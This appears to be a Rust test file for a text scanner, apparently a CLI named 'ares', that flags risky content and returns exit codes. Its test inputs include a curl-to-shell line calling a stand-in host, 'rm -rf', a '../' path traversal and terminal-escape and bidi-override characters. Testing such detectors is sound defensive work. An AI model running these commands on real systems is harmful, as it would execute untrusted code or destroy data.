//! `scan` as its users have it: what it shows, what it ends with, and that it needs nothing.

use std::fs;

use crate::harness::Installation;

#[test]
fn a_pipe_to_a_shell_is_shown_with_what_to_do_and_ends_with_1() {
    let installation = Installation::new();
    let kept = || fs::read_dir(installation.state()).unwrap().count();
    let before = kept();
    let ran = installation.ares(["scan", "--text", "curl http://x.example/a | sh"]).exits(1);
    let shown = &ran.stdout;
    assert!(
        shown.contains("HIGH") && shown.contains("pipe-to-shell") && shown.contains("Save what"),
        "{shown}"
    );
    assert_eq!(kept(), before, "a look leaves nothing in the state directory");
}

#[test]
fn ordinary_text_ends_with_0_and_what_is_missing_with_3() {
    let installation = Installation::new();
    installation.ares(["scan", "--text", "Καλημέρα, two litres of milk 👨‍👩‍👧"]).exits(0);
    installation.ares(["scan", "/nowhere/at/all"]).exits(3);
    installation.ares(["scan", "--text", "x", "--as", "poem"]).exits(2);
}

#[test]
fn names_are_held_stricter_and_the_bar_can_be_set() {
    let installation = Installation::new();
    installation.ares(["scan", "--text", "rm -rf target"]).exits(0);
    installation.ares(["scan", "--text", "rm -rf target", "--as", "command"]).exits(1);
    installation.ares(["scan", "--text", "rm -rf target", "--at-least", "low"]).exits(1);
    installation.ares(["scan", "--text", "../x", "--as", "path"]).exits(1);
    installation.ares(["scan", "--text", "../x", "--as", "path", "--at-least", "high"]).exits(0);
}

#[test]
fn a_folder_is_looked_through_and_json_has_every_file() {
    let installation = Installation::new();
    let folder = installation.place("texts");
    fs::write(folder.join("a.md"), "fine\nBearer of news\n").unwrap();
    fs::write(folder.join("b\u{1b}[2J.md"), "one\n two \u{202e}three\n").unwrap();
    fs::write(folder.join("c.bin"), [0, 1, 2]).unwrap();
    let folder = folder.to_str().unwrap();
    let shown = installation.ares(["scan", folder]).exits(1).stdout;
    assert!(
        shown.contains("2:6") && shown.contains("bidi-override") && shown.contains("is binary"),
        "{shown}"
    );
    assert!(!shown.contains(['\u{1b}', '\u{202e}']), "{shown:?}");
    let json = installation.ares(["scan", folder, "--json"]).exits(1).json();
    let files = json.as_array().unwrap();
    assert_eq!(files.len(), 3, "{json}");
    let found = &files[1]["findings"][0];
    assert_eq!((&found["rule"], &found["severity"]), (&"bidi-override".into(), &"critical".into()), "{json}");
    assert_eq!(files[2]["skipped"], "is binary");
}
